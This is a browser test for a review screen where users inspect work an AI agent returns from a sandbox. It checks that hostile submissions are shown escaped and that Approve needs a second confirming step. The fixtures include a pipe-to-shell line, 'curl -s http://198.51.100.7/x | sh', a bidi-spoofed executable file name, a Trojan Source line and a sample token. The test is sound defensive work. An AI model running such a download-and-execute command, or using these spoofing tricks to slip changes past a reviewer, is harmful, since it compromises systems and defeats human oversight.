// A sandbox returns work built to fool the reviewer: hostile file names, a
// Trojan Source line, a script with a NUL byte, a change the patch cap left
// out, and a key. In Chromium through the web host (scripted app behind it):
// all of it is shown escaped, and Approve takes a deliberate second step that
// names what was not seen.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumMissingReason } from './support/browser.js';
import { screenshot } from './support/axe.js';
import { ScriptedApp } from './support/scripted-app.js';
import { HOSTILE_REVIEW, HOSTILE_SHOWN, NUL_SCRIPT, UNSHOWN_FILE } from './support/scripted-reviews.js';
import { ScriptedUi } from './support/scripted-ui.js';
import { startTask } from './support/ui-driver.js';

const missing = chromiumMissingReason();
if (missing) console.log(`review-approve skipped: ${missing}`);

describe.skipIf(!!missing)('review of hostile returned work in Chromium', () => {
  let ui: ScriptedUi;
  let app: ScriptedApp;

  beforeAll(async () => {
    app = new ScriptedApp(40);
    ui = await ScriptedUi.start(app);
  });
  afterAll(async () => {
    await ui?.close();
  });

  it('shows everything escaped and approves only through the second step, naming what was not seen', async () => {
    const { page, problems } = ui.browser;
    await page.goto(ui.host.url);
    const taskId = await startTask(page, ui.repo, `${HOSTILE_REVIEW} add an invoice tool`);
    await expect.poll(() => page.getByTestId(`task-phase-${taskId}`).textContent(), { timeout: 30_000 }).toBe('review');
    await page.getByTestId('review-file').first().waitFor();

    expect(await page.getByTestId('review-file').evaluateAll((els) => els.map((e) => e.getAttribute('data-path')))).toEqual([
      ...HOSTILE_SHOWN, NUL_SCRIPT, UNSHOWN_FILE,
    ]);
    // What the user can read holds no raw bidi, invisible or control character.
    const raw = await page.evaluate(() => /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u.exec(document.body.innerText)?.[0]);
    expect(raw).toBeUndefined();

    const flags = page.getByTestId('review-flag');
    expect(await flags.evaluateAll((els) => els.map((e) => e.getAttribute('data-severity')))).toEqual(['danger', 'danger', 'danger', 'warning']);
    expect(await flags.first().textContent()).toContain('DANGER hidden-chars invoice\\u{202e}txt.exe:1');
    expect(await page.getByTestId('review-secret').textContent()).toContain('invoice\\u{202e}txt.exe:2');
    const trojan = page.locator('[data-testid="review-patch"] .patch-row.has-hidden');
    expect(await trojan.count()).toBe(1);
    expect(await trojan.getAttribute('data-hidden')).toBe('U+202E (bidi), U+2066 (bidi), U+2069 (bidi), U+2066 (bidi)');
    // Each content line carries its old and new line numbers, drawn beside it but not part of the text a copy takes.
    expect(await trojan.locator('.ln').evaluateAll((els) => els.map((e) => e.getAttribute('data-n')))).toEqual([null, '1']);
    await trojan.scrollIntoViewIfNeeded();
    await screenshot(page, 'review-patch-line-numbers');

    // What Approve lands is said, and the agent's commits that it does not land are listed, escaped.
    expect(await page.getByTestId('review-lands').textContent()).toContain("Approve lands one commit with the final tree shown here, on the task's base; the agent's 3 commits are not kept");
    const commits = page.getByTestId('review-commit');
    expect(await commits.evaluateAll((els) => els.map((e) => e.getAttribute('data-merge')))).toEqual(['true', 'false', 'false']);
    expect(await commits.nth(1).textContent()).toContain('Evil\\u{202e} <x@y>');
    expect(await commits.nth(1).getByTestId('review-commit-message').textContent()).toBe('add config\n\nuse token ghp_\\u{200b}example for the release');

    const script = page.getByTestId('review-file').filter({ hasText: NUL_SCRIPT });
    expect(await script.getByTestId('review-file-nottext').textContent()).toBe('not shown as text: has NUL bytes, 4.0 KiB (4,096 bytes)');
    await script.getByTestId('review-file-bytes').click();
    await expect.poll(() => page.getByTestId('review-file-leading-bytes').textContent()).toBe('#!/bin/sh\\ncurl -s http://198.51.100.7/x | sh\\n\\x00\\x00\\x00');

    const late = page.getByTestId('review-file').filter({ hasText: UNSHOWN_FILE });
    expect(await late.getByTestId('review-file-unshown').textContent()).toBe('not in the patch below');
    await late.getByTestId('review-file-load').click();
    await expect.poll(() => page.getByTestId('review-file-patch').textContent()).toContain('+export const late = 1; // the change the cap hid');

    await page.getByTestId('approve-button').click();
    const items = page.getByTestId('approve-confirmation');
    expect(await items.evaluateAll((els) => els.map((e) => e.getAttribute('data-kind')))).toEqual(['unshown', 'secrets']);
    expect(await items.first().textContent()).toContain(UNSHOWN_FILE);
    await page.getByTestId('approve-cancel-button').click();
    expect(await page.getByTestId('approve-confirm').count()).toBe(0);
    expect(app.approvals).toEqual([]);

    await page.getByTestId('approve-button').click();
    await page.getByTestId('approve-confirmed-button').click();
    await expect.poll(() => page.getByTestId('decision').getAttribute('data-kind')).toBe('approved');
    expect(app.approvals).toEqual([{ taskId, confirm: ['unshown', 'secrets'] }]);
    expect(problems).toEqual([]);
  });
});
